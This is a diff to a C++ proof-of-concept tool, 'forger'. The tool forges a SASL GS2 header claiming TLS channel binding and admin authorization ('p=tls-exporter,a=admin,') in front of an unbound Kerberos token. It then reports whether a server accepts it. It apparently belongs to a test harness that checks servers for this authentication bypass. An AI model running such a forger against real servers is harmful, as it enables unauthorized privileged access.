@@ -2,9 +2,9 @@
 //
 // The attack that requirement G10 is about. A Kerberos token that was made without channel bindings
 // (by a client that knows nothing of them, for another purpose) says nothing about the GS2 header
-// that it travels behind, so whoever holds it can write any header in front: "bound to this TLS
-// channel, and I want to be admin". MIT krb5 accepts it and only leaves GSS_C_CHANNEL_BOUND_FLAG
-// clear; a server that does not look at that flag lets it in.
+// in front of it. An attacker that holds such a token can write any header: "bound to this TLS
+// channel, and I want to be admin". MIT krb5 accepts the token and only leaves
+// GSS_C_CHANNEL_BOUND_FLAG clear; a server that does not look at that flag lets the attacker in.
 
 #include <gssapi/gssapi.h>
 #include <gssapi/gssapi_krb5.h>
@@ -15,18 +15,16 @@
 
 namespace {
 
+constexpr char kService[] = "imap";
+constexpr char kMechanism[] = "GS2-KRB5";
 constexpr char kUsage[] =
-    "Usage: forger HOST PORT [OPTION...]\n"
-    "  --service NAME    first part of the service's principal (default: imap)\n"
-    "  --mechanism NAME  what to claim (default: GS2-KRB5)\n"
-    "  --header TEXT     the GS2 header to forge (default: p=tls-exporter,a=admin,)\n"
+    "Usage: forger HOST PORT [HEADER]\n"
+    "HEADER is the GS2 header to forge (default: p=tls-exporter,a=admin,)\n"
     "Exit status: 0 the server refused, 1 the server let it in, 2 the attack could not be tried.\n";
 
 struct Options {
   std::string host;
   std::string port;
-  std::string service = "imap";
-  std::string mechanism = "GS2-KRB5";
   std::string header = "p=tls-exporter,a=admin,";
 };
 
@@ -55,7 +53,7 @@ void print_error(const char* call, OM_uint32 major, OM_uint32 minor) {
 
 // A token of the kind that any Kerberos client makes: mutual authentication, no channel bindings.
 std::optional<std::string> unbound_token(const Options& options) {
-  std::string text = options.service + "@" + options.host;
+  std::string text = std::string(kService) + "@" + options.host;
   gss_buffer_desc name_text = {text.size(), text.data()};
   gss_name_t imported = GSS_C_NO_NAME;
   OM_uint32 minor = 0;
@@ -129,10 +127,10 @@ int attack(int fd, const Options& options) {
   }
   const std::string message = options.header + *body;
   std::printf("forger    glues on \"%s\" and sends %s and %zu bytes\n", options.header.c_str(),
-              options.mechanism.c_str(), message.size());
+              kMechanism, message.size());
   demo::send_frame(
       fd, demo::Kind::kStart,
-      options.mechanism + '\0' +
+      std::string(kMechanism) + '\0' +
           demo::encode_optional(message.data(), static_cast<unsigned>(message.size())));
   std::optional<demo::Frame> frame = demo::receive_frame(fd);
   // A challenge may be an error token, after which the server fails whatever comes back.
@@ -146,28 +144,12 @@ int attack(int fd, const Options& options) {
 }
 
 Options parse(int argc, char** argv) {
-  Options options;
-  demo::Arguments arguments(argc, argv, kUsage);
-  while (arguments.next()) {
-    if (arguments.is("--service")) {
-      options.service = arguments.value();
-    } else if (arguments.is("--mechanism")) {
-      options.mechanism = arguments.value();
-    } else if (arguments.is("--header")) {
-      options.header = arguments.value();
-    } else if (arguments.is("--help")) {
-      arguments.help();
-    } else if (arguments.current().substr(0, 1) == "-") {
-      arguments.fail("there is no option " + std::string(arguments.current()));
-    } else if (options.host.empty()) {
-      options.host = arguments.current();
-    } else if (options.port.empty()) {
-      options.port = arguments.current();
-    } else {
-      arguments.fail("too many arguments");
-    }
+  if (argc != 3 && argc != 4) {
+    std::fputs(kUsage, stderr);
+    std::exit(2);
   }
-  if (options.port.empty()) arguments.fail("HOST and PORT are needed");
+  Options options{argv[1], argv[2]};
+  if (argc == 4) options.header = argv[3];
   return options;
 }
 
